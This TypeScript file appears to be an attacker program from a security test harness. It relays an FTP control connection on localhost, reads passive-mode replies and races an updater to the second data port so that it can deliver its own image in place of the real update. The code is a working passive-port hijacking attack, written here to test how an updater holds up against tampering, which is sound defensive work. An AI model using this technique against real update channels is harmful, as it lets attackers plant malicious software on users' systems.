import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { pipeline } from 'node:stream/promises';
import { errorCode } from '@postern/core';
import { lineRelay } from '../../../tampering/line-relay.ts';
import { passivePort } from '../../../tampering/passive-reply.ts';
import { connectTcp } from '../../../tcp/connect.ts';
import { type Endpoint, listenTcp } from '../../../tcp/listener.ts';
import type { AttackerProgram, Means } from '../program.ts';

export interface PortThiefKnowledge {
  /** The address it connects from. */
  readonly from: string;
  readonly image: Uint8Array;
}

/** What became of the connection to the stolen port: `taken`, or the code of its end. */
export interface PortThiefReport {
  readonly connection: string;
}

/** The version report is fetched over the first data port, the image sent over the second. */
const STOLEN_PORT = 2;

/**
 * Reads the control connection and is at the second data port before the updater: sends its own image there. It changes
 * nothing that passes, it only keeps the reply back until it is connected.
 */
export const portThief: AttackerProgram = async (means) => {
  const target = { host: '127.0.0.1', port: 0 };
  let ports = 0;
  const listener = await listenTcp({ host: '127.0.0.1', port: 0 }, (client) => {
    void relay(means, client, target, async (port) => {
      ports += 1;
      if (ports === STOLEN_PORT) await steal(means, port);
    });
  });
  means.channel.say('listening', { ftp: listener.port });
  target.port = (await means.channel.hear<{ bulk: Endpoint }>('lead-to')).bulk.port;
};

const relay = async (
  { clock }: Means,
  client: Socket,
  target: Endpoint,
  onPort: (port: number) => Promise<void>,
): Promise<void> => {
  try {
    const server = await connectTcp(clock, target, new AbortController().signal);
    const replies = lineRelay(async (line) => {
      const port = passivePort(line);
      if (port !== undefined) await onPort(port);
      return line;
    });
    await Promise.all([pipeline(client, server), pipeline(server, replies, client)]);
  } catch {
    client.destroy();
  }
};

const steal = async ({ channel, knows }: Means, port: number): Promise<void> => {
  const { from, image } = knows as PortThiefKnowledge;
  const socket = connect({ host: '127.0.0.1', port, localAddress: from });
  try {
    await once(socket, 'connect');
  } catch (error) {
    channel.say('report', { connection: errorCode(error, 'refused') });
    return;
  }
  socket.end(image);
  // What becomes of it shows only after the updater's command.
  once(socket, 'close').then(
    () => channel.say('report', { connection: 'taken' }),
    (error: unknown) => channel.say('report', { connection: errorCode(error, 'reset') }),
  );
};
